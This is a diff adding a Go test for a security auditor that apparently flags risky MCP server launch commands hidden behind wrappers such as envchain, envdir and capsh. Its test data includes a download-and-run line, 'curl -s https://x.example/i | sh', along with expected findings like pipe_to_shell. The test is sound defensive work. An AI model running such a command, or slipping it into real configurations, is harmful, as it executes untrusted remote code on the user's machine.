@@ -4222,3 +4222,37 @@ func TestAuditMCPSDKCLI(t *testing.T) {
 		{"a folder named MCP", stdio("/Users/me/MCP quant/.venv/bin/python", "/Users/me/MCP quant/server.py"), []string{}, false, false},
 	})
 }
+
+// Wrappers with an operand of their own before the command (ruleset
+// 2026.12.131): envchain NAMESPACE, gopass env SECRET, daemontools'
+// setuidgid, envuidgid, envdir and setlock, s6's s6-envdir, s6-envuidgid
+// and s6-setlock, and capsh, whose `-- -c script` is bash's: what they run
+// passed with no finding (an unknown program's second word is not in
+// command position).
+func TestAuditOperandWrappers(t *testing.T) {
+	const curl = "curl -s https://x.example/i | sh"
+	piped := []string{"danger fetch_exec mcp.args[3]", "danger pipe_to_shell mcp.args[3]", "danger shell_exec mcp.args[3]", "warn shell_meta mcp.args[3]"}
+	runCases(t, []auditCase{
+		{"envchain", stdio("envchain", "aws", "npx", "-y", "evil"), []string{"warn unpinned mcp.args[3]"}, true, false},
+		{"envchain of two namespaces", stdio("envchain", "aws,gh", "sh", "-c", curl), piped, true, true},
+		{"gopass env", stdio("gopass", "env", "--keep-case", "work/api", "npx", "-y", "evil"), []string{"warn unpinned mcp.args[5]"}, true, false},
+		{"setuidgid", stdio("setuidgid", "mcp", "npx", "-y", "evil"), []string{"warn unpinned mcp.args[3]"}, true, false},
+		{"envuidgid", stdio("envuidgid", "mcp", "npx", "-y", "evil"), []string{"warn unpinned mcp.args[3]"}, true, false},
+		{"envdir", stdio("envdir", "./env", "sh", "-c", curl), piped, true, true},
+		{"setlock", stdio("setlock", "-n", "/tmp/lock", "npx", "-y", "evil"), []string{"warn unpinned mcp.args[4]"}, true, false},
+		{"softlimit", stdio("softlimit", "-m", "2000000", "npx", "-y", "evil"), []string{"warn unpinned mcp.args[4]"}, true, false},
+		{"s6-envdir", stdio("s6-envdir", "-c", "x", "./env", "npx", "-y", "evil"), []string{"warn unpinned mcp.args[5]"}, true, false},
+		{"s6-envuidgid", stdio("s6-envuidgid", "-D", "1:1", "mcp", "npx", "-y", "evil"), []string{"warn unpinned mcp.args[5]"}, true, false},
+		{"s6-setlock", stdio("s6-setlock", "-t", "100", "/tmp/lock", "npx", "-y", "evil"), []string{"warn unpinned mcp.args[5]"}, true, false},
+		{"capsh", stdio("capsh", "--", "-c", "npx -y evil"), []string{"danger shell_exec mcp.args[2]", "warn unpinned mcp.args[2]"}, true, true},
+		{"capsh with a shell of its own", stdio("capsh", "--user=mcp", "--shell=/bin/sh", "--", "-c", curl), []string{
+			"danger fetch_exec mcp.args[4]", "danger pipe_to_shell mcp.args[4]", "danger shell_exec mcp.args[4]", "warn shell_meta mcp.args[4]"}, true, true},
+		{"capsh run again", stdio("capsh", "--drop=cap_net_raw", "==", "--", "-c", "npx -y evil"), []string{"danger shell_exec mcp.args[4]", "warn unpinned mcp.args[4]"}, true, true},
+		// Look-alikes.
+		{"envchain --set", stdio("envchain", "--set", "aws", "npx"), []string{}, false, false},
+		{"envchain refuses an option", stdio("envchain", "--noecho", "aws", "node", "server.js"), []string{}, false, false},
+		{"gopass show", stdio("gopass", "show", "npx"), []string{}, false, false},
+		{"capsh --print", stdio("capsh", "--print"), []string{}, false, false},
+		{"envdir of a pinned server", stdio("envdir", "./env", "npx", "-y", "pkg@1.2.3"), []string{}, true, false},
+	})
+}
